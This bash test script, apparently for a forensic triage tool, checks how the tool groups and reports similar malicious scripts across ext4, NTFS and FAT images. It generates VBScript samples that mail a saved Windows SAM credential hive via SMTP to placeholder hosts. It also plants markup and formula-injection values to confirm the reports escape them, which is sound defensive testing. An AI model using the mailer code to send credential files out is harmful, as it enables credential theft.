#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# test_compare.sh - triage compare: the same, similar and different scripts on an ext4, an NTFS and a
# FAT image of three cases. Groups, scores and first times against ssdeep, sha256sum and what was
# planted; the same bytes in any order; no password, no markup and no formula of the evidence comes
# through; one case of many exhibits has the same pages by itself.
# labels: asan
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
for tool in mke2fs mkntfs ntfscp mkfs.vfat mcopy ssdeep; do command -v $tool >/dev/null || skip "no $tool"; done

mailer() { # SERVER TO SUBJECT [USER PASSWORD]: one of a family
  local user=${4:-} password=${5:-} base=http://schemas.microsoft.com/cdo/configuration
  [ -z "$user" ] || user="field.Item(\"$base/sendusername\") = \"$user\""
  [ -z "$password" ] || password="field.Item(\"$base/sendpassword\") = \"$password\""
  cat <<VBS
' collects what was asked for and sends it, $3
Option Explicit
Dim mail, conf, field
Set mail = CreateObject("CDO.Message")
Set conf = CreateObject("CDO.Configuration")
Set field = conf.Fields
field.Item("http://schemas.microsoft.com/cdo/configuration/sendusing") = 2
field.Item("http://schemas.microsoft.com/cdo/configuration/smtpserver") = "$1"
field.Item("http://schemas.microsoft.com/cdo/configuration/smtpserverport") = 25
$user
$password
field.Update
Set mail.Configuration = conf
mail.From = "update@example.org"
mail.To = "$2"
mail.Subject = "$3"
mail.TextBody = "see attachment"
mail.AddAttachment "C:\\Windows\\Temp\\sam.save"
mail.Send
VBS
}
mailer SMTP.example.net. 'Ann <Drop@example.org>; =x <img src=x>' 'week 10' =drop s3cret-Wort >same.vbs
mailer smtp.example.net drop@example.org 'week 11' other s3cret-Wort >like.vbs
mailer mail.corp.example ops@corp.example 'a very different matter, of which much is to be told here' >far.vbs
{ echo "' another script by another hand"; script solo; seq 300; } >solo.vbs
cp like.vbs '<b>&"like.vbs'

# first times: ext4 keeps UTC, NTFS too; FAT keeps local time, which no order can be made of
mkdir tree && cp -p same.vbs tree/same.vbs && cp '<b>&"like.vbs' solo.vbs tree/
touch -d 2021-05-06T07:08:09Z tree/same.vbs && touch -d 2020-01-01T00:00:00Z tree/*like.vbs
truncate -s 4M a.dd
E2FSPROGS_FAKE_TIME=1700000000 mke2fs -q -t ext4 -F -d tree a.dd || fail mke2fs
truncate -s 6M b.dd
mkntfs -q -F -f -p 0 b.dd >/dev/null 2>&1 || fail mkntfs
for f in same like far; do ntfscp b.dd $f.vbs $f.vbs >/dev/null 2>&1 || fail ntfscp; done
truncate -s 2M c.dd
mkfs.vfat c.dd >/dev/null 2>&1 || fail mkfs.vfat
mcopy -m -i c.dd same.vbs ::SAME.VBS || fail mcopy

mkdir -p one two/case three
"$TRIAGE" scan -q --case-number K-2 --evidence-number '=A1' --digest sha256 -o one/case a.dd
"$TRIAGE" scan -q --case-number K-1 -o two/case/case b.dd
"$TRIAGE" scan -q -o three/c c.dd
status 0 "$TRIAGE" compare -o x one/case two/case/case three/c
status 0 "$TRIAGE" compare -q -o y three/c ./two/../two/case/case/ "$work/one/case"
[ ! -s stderr ] || fail "-q says something"
for f in across.csv across.html across.sha256; do same x/$f y/$f; done
(cd x && sha256sum -c --quiet across.sha256) || fail "across.sha256"
status 0 "$TRIAGE" verify --evidence a.dd one/case # was only read

ssdeep -s -b same.vbs like.vbs far.vbs solo.vbs >fuzzy.txt 2>/dev/null
ssdeep -s -a -d -b same.vbs like.vbs far.vbs solo.vbs >scores.txt 2>/dev/null
python3 - <<'PY' || fail "the groups"
import collections, csv, hashlib, re
rows = list(csv.DictReader(open("x/across.csv", encoding="utf-8", newline="")))
groups = collections.defaultdict(list)
for r in rows:
    groups[int(r["group"])].append(r)
of = lambda kind: [g for g in groups.values() if g[0]["kind"] == kind]
sha = {n: hashlib.sha256(open(n + ".vbs", "rb").read()).hexdigest() for n in ("same", "like", "far", "solo")}
# order: most exhibits, then what was seen first
keys = [(-int(g[0]["exhibits"]), g[0]["group_first_seen"] or "9") for _, g in sorted(groups.items())]
assert keys == sorted(keys) and sorted(groups) == list(range(1, len(groups) + 1)), keys
# the same content
content = {g[0]["value"]: g for g in of("content")}
assert set(content) == {sha["same"], sha["like"]}, content.keys()
same = content[sha["same"]]
assert same[0]["exhibits"] == same[0]["cases"] == same[0]["objects"] == "3" and len(same) == 3
assert {r["case"] for r in same} == {"case", "case#2", "c"}
assert {(r["case"], r["case_number"]) for r in same} == {("case", "K-1"), ("case#2", "K-2"), ("c", "")}
assert same[0]["evidence"] == "a.dd" and same[0]["evidence_number"] == "'=A1"
assert same[0]["first_seen"] == same[0]["group_first_seen"] == "2021-05-06T07:08:09Z", same[0]
assert same[0]["first_seen_kind"].startswith("modified") and same[0]["group_first_seen_in"] == "a.dd"
fat = next(r for r in same if r["evidence"] == "c.dd")
assert fat["first_seen"] == "" and same[-1] is fat, "local times are put in order with others"
# similar content: what ssdeep says
fuzzy = dict((m[1], m[0]) for m in re.findall(r'^([^,\n]+),"(\w+)\.vbs"$', open("fuzzy.txt").read(), re.M))
score = {}
for a, b, n in re.findall(r"^(\w+)\.vbs matches (\w+)\.vbs \((\d+)\)$", open("scores.txt").read(), re.M):
    score[a, b] = score[b, a] = int(n)
assert score["same", "like"] >= 80 > max(score["same", "far"], score["like", "far"]), score
hits = {r["sha256"]: r["ssdeep"] for c in ("one/case", "two/case/case", "three/c")
        for r in csv.DictReader(open(c + "/hits.csv", encoding="utf-8")) if r["state"] == "allocated" and not r["path"].startswith("/$")}
assert {hits[sha[n]] for n in sha} == set(fuzzy.values()) and all(hits[sha[n]] == fuzzy[n] for n in sha), (hits, fuzzy)
similar = [g for g in of("similar") if sha["same"] in {r["sha256"] for r in g}]
assert len(similar) == 1 and {r["sha256"] for r in similar[0]} == {sha["same"], sha["like"]}
assert similar[0][0]["value"] == min(fuzzy["same"], fuzzy["like"]) and similar[0][0]["contents"] == "2"
for r in similar[0]:
    assert r["score"] == ("100" if r["ssdeep"] == r["value"] else str(score["same", "like"])), r
# server, recipient, user, password
server = {g[0]["value"]: g[0] for g in of("smtp-server")}
assert set(server) == {"smtp.example.net"} and server["smtp.example.net"]["exhibits"] == "3", server
assert {g[0]["value"] for g in of("recipient")} >= {"drop@example.org", "img src=x"}
assert {g[0]["value"] for g in of("user-name")} == {"'=drop", "other"}
passwords = of("password")
assert len(passwords) == 1 and passwords[0][0]["value"] == "password 1" and passwords[0][0]["users"] == "'=drop; other"
assert passwords[0][0]["objects"] == "5", passwords[0][0]
# nothing of the evidence is markup, a formula or a password
page = open("x/across.html", encoding="utf-8").read()
for name in ("x/across.csv", "x/across.html"):
    text = open(name, encoding="utf-8").read()
    assert "s3cret" not in text and not re.search(r"\b[0-9a-f]{16}\b", text.replace("H-", "H-_")), name
assert "<script" not in page and "<b>" not in page and "<img" not in page and "&lt;b&gt;&amp;&quot;like.vbs" in page
assert all(not c.startswith(("=", "+", "-", "@")) for r in rows for c in r.values())
for title in ("The same content", "Similar content", "The same password", "First seen"):
    assert title in page
firsts = sum(any(r["first_seen"] for r in g) for g in groups.values())
assert page.count('<path class="s-suspicious"') == firsts > 6, firsts  # each group drawn, from its first
PY

# other thresholds; wrong usage; a case that is not finished; the same twice
status 0 "$TRIAGE" compare -q --similarity 100 -o strict one/case two/case/case
has_no strict/across.csv 'r["kind"] == "similar"'
status 2 "$TRIAGE" compare -q -o x one/case && says "exists already"
status 2 "$TRIAGE" compare -q -o z one/case one/./case && says "named twice"
cp -r one/case copy && status 2 "$TRIAGE" compare -q -o z one/case copy && says "copies of one case"
status 2 "$TRIAGE" compare -q -o z tree && says "no case directory"
status 2 "$TRIAGE" compare -q --similarity 0 -o z one/case
sqlite3 copy/case.db "update meta set value = 'stopped' where key = 'status'"
status 2 "$TRIAGE" compare -q -o z copy
[ ! -e z ] || fail "a directory was made all the same"

# the same evidence in two cases is one exhibit
"$TRIAGE" scan -q --digest sha256 -o again a.dd
status 0 "$TRIAGE" compare -q -o twice one/case again
has_no twice/across.csv 'r["kind"] == "content"'
grep -q 'the same evidence as exhibit' twice/across.html || fail "that exhibits are the same is not said"

# what an earlier case found nothing on counts where a later one found something; three cases of one
# name; the members of one file of two names lie in one place each
echo 'rule never { strings: $a = "in none of them" condition: $a }' >never.yar
"$TRIAGE" scan -q -r never.yar --case-number K-0 --digest sha256 -o none a.dd
mkdir four five && "$TRIAGE" scan -q --case-number K-3 -o four/case c.dd
mkdir links pair && script twin >pair/a.vbs && script other >pair/b.vbs && zip -q -j links/z.zip pair/?.vbs && ln links/z.zip links/y.zip
truncate -s 1M d.dd && mke2fs -q -t ext4 -F -d links d.dd && "$TRIAGE" scan -q -o five/case d.dd
[ "$(rows five/case/hits.csv 'r["member"] == "a.vbs"')" -eq 2 ] || fail "the file of two names has not two rows"
status 0 "$TRIAGE" compare -q -o later five/case four/case one/case none two/case/case
python3 - <<'PY' || fail "cases that found nothing, of one name, of one file"
import csv
rows = list(csv.DictReader(open("later/across.csv", encoding="utf-8", newline="")))
same = [r for r in rows if r["kind"] == "content" and r["evidence"] == "a.dd"]
assert same and same[0]["exhibits"] == "3" and same[0]["objects"] == "3", same
assert {r["case"] for r in same} == {"case#3"}, same
assert {(r["case"], r["case_number"]) for r in rows} == {("case#2", "K-1"), ("case#3", "K-2"), ("case#4", "K-3")}, {(r["case"], r["case_number"]) for r in rows}
assert not any(r["evidence"] == "d.dd" for r in rows), "one place counts twice"
PY

# one case of many exhibits: the same groups by itself, and rendered again
"$TRIAGE" scan -q -o many a.dd b.dd c.dd
python3 - <<'PY' || fail "the case of many exhibits"
import csv, re
read = lambda f: [{k: v for k, v in r.items() if k not in ("group", "case", "case_number", "cases", "evidence_number", "hit_id")}
                  for r in csv.DictReader(open(f, encoding="utf-8", newline=""))]
key = lambda r: sorted(r.items())
assert sorted(read("x/across.csv"), key=key) == sorted(read("many/across.csv"), key=key)
page = open("many/across.html", encoding="utf-8").read()
assert re.search(r'<a href="exhibit-1\.html"><bdi>a\.dd', page)
for name, links in (("report", ("exhibits.html", "across.html")), ("exhibits", ("report.html", "across.html")), ("exhibit-2", ("exhibits.html", "across.html"))):
    text = open(f"many/{name}.html", encoding="utf-8").read()
    for link in links:
        assert f'href="{link}"' in text, (name, link)
assert 'href="across.html"' not in open("three/c/report.html", encoding="utf-8").read()
PY
cp many/across.csv many/across.html . && status 0 "$TRIAGE" report many
same across.csv many/across.csv
same across.html many/across.html
[ ! -e three/c/across.csv ] || fail "a comparison of one exhibit"
finish
